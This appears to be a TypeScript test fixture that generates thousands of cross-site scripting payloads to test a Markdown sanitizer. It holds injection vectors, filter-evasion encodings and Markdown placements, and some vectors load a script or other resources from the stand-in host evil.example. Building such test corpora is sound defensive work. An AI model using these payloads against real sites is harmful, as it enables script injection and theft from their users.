/** What is run when a payload works: counts, and tells a host that must never hear of it. */
const run = "window.pwned=(window.pwned||0)+1";
const evil = "https://evil.example/x";

/** Ways by which text has become script, from the public lists: tags, handlers, addresses, styles, and Markdown's own ways. */
const ways: readonly string[] = [
	`<script>${run}</script>`,
	`<script src="${evil}.js"></script>`,
	`<scr<script>ipt>${run}</scr</script>ipt>`,
	`<img src=x onerror="${run}">`,
	`<img src="${evil}.png">`,
	`<img srcset="${evil}.png 1x">`,
	`<image href="${evil}.png">`,
	`<svg onload="${run}">`,
	`<svg><script>${run}</script></svg>`,
	`<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload='${run}'/>#x"></svg>`,
	`<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
	`<math><mi xlink:href="javascript:${run}">x</mi></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
	`<iframe src="javascript:${run}"></iframe>`,
	`<iframe srcdoc="<script>parent.${run.slice(7)}</script>"></iframe>`,
	`<iframe src="${evil}"></iframe>`,
	`<object data="javascript:${run}"></object>`,
	`<object data="${evil}.swf"></object>`,
	`<embed src="${evil}.swf">`,
	`<video src="${evil}.mp4" onerror="${run}"></video>`,
	`<video><source onerror="${run}"></video>`,
	`<audio src="${evil}.mp3" onloadstart="${run}"></audio>`,
	`<body onload="${run}">`,
	`<details open ontoggle="${run}">`,
	`<input autofocus onfocus="${run}">`,
	`<select autofocus onfocus="${run}"></select>`,
	`<textarea autofocus onfocus="${run}"></textarea>`,
	`<marquee onstart="${run}">x</marquee>`,
	`<form action="javascript:${run}"><button autofocus>x</button></form>`,
	`<button formaction="javascript:${run}">x</button>`,
	`<a href="javascript:${run}">x</a>`,
	`<a href="${evil}" ping="${evil}">x</a>`,
	`<base href="${evil}/">`,
	`<link rel=stylesheet href="${evil}.css">`,
	`<link rel=preload as=script href="${evil}.js">`,
	`<meta http-equiv=refresh content="0;url=javascript:${run}">`,
	`<style>@import "${evil}.css"; * { background: url("${evil}.png") }</style>`,
	`<div style="background:url('${evil}.png')">x</div>`,
	`<x onclick="${run}" tabindex=1 autofocus onfocus="${run}">x</x>`,
	`<template><script>${run}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
	`<!--><img src=x onerror="${run}">-->`,
	`<![CDATA[<script>${run}</script>]]>`,
	`<?xml version="1.0"?><script>${run}</script>`,
	`[x](javascript:${run})`,
	`[x](data:text/html,<script>${run}</script>)`,
	`[x](vbscript:${run})`,
	`[x](${evil} "\\" onmouseover=${run} x=\\"")`,
	`![x](${evil}.png)`,
	`![x](x "onerror=${run}")`,
	`![x" onerror="${run}](x)`,
	`<javascript:${run}>`,
	`[x]: javascript:${run}\n\n[x]`,
	`![x][y]\n\n[y]: ${evil}.png`,
	`{{constructor.constructor('${run}')()}}`,
	`\${${run}}`,
];

/** Ways by which filters have been passed. */
const disguises: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => text.toUpperCase().replaceAll("WINDOW.PWNED", "window.pwned"),
	(text) =>
		text.replace(/(script|onerror|onload|onfocus)/gi, (word) =>
			[...word].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join(""),
		),
	(text) => text.replaceAll("javascript:", "java\tscript:"),
	(text) => text.replaceAll("javascript:", "&#106;avascript&colon;"),
	(text) => text.replaceAll("javascript:", "\u0001javascript:"),
	(text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
	(text) => text.replaceAll("<", "&#x3c;").replaceAll(">", "&#x3e;"),
	(text) => text.replaceAll("<", "\\<"),
	(text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
	(text) => text.replaceAll(" ", "/"),
	(text) => text.replaceAll(" ", "\u000c"),
	(text) => text.replaceAll("<", "<\u0000"),
	(text) => text.replaceAll("<", "<<"),
	(text) => text.replaceAll('"', "'"),
	(text) => text.replaceAll('"', "`"),
	(text) => text.replaceAll(">", ""),
	(text) => `"'>${text}`,
	(text) => `</textarea></script></style></title>${text}`,
	(text) => `--></p>${text}`,
	(text) => encodeURI(text),
	(text) => text.replaceAll(/(?<=<)(\w)/g, "\n$1"),
	(text) => text.replaceAll(/(?<=<\/?\w+)(?=[ >])/g, "\t"),
	(text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
	(text) => text.replaceAll("<", "\\u003c"),
	(text) => text.replaceAll("<", "&amp;lt;"),
	(text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
	(text) => text.replaceAll("=", " = "),
	(text) => `\u202e${text}`,
	(text) => `\ufeff${text}\u2028`,
	(text) => `<p>${text}</p>`,
	(text) => `${text}\n${text}`,
];

/** Where in Markdown they stand. */
const places: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => `**${text}**`,
	(text) => `# ${text.replaceAll("\n", " ")}`,
	(text) => `- ${text}`,
	(text) => `> ${text}`,
	(text) => `| a | b |\n| --- | --- |\n| ${text.replaceAll("\n", " ").replaceAll("|", "")} | x |`,
	(text) => `[${text.replaceAll("\n", " ")}](https://shop.example/)`,
	(text) => `~~~html" onmouseover="${run}\n${text}\n~~~`,
];

/** Every way in every disguise in every place, each text once: more than ten thousand. */
export function payloads(): string[] {
	return [
		...new Set(ways.flatMap((way) => disguises.flatMap((disguise) => places.map((place) => place(disguise(way)))))),
	];
}

/** Them as they are stored: no database keeps NUL. */
export function storedPayloads(): string[] {
	return [...new Set(payloads().map((text) => text.replaceAll("\0", "")))];
}

/** Each way once and each disguise at least once, for places of which there are many. */
export function sample(): string[] {
	return ways.map((way, index) => disguises[index % disguises.length]?.(way) ?? way);
}

/**
 * The texts in groups of as many as fit into one text, each in a line of its own.
 * @param length how long a text is where it is to fit
 */
export function packed(
	texts: readonly string[],
	longest: number,
	length: (text: string) => number = (text) => text.length,
): string[][] {
	const packs: string[][] = [];
	for (const text of texts) {
		const last = packs.at(-1);
		if (last && length([...last, text].join("\n")) <= longest) last.push(text);
		else packs.push([text]);
	}
	return packs;
}

/** In groups of a size, the last one perhaps smaller. */
export function grouped<Item>(items: readonly Item[], size: number): Item[][] {
	return Array.from({ length: Math.ceil(items.length / size) }, (_, group) =>
		items.slice(group * size, (group + 1) * size),
	);
}
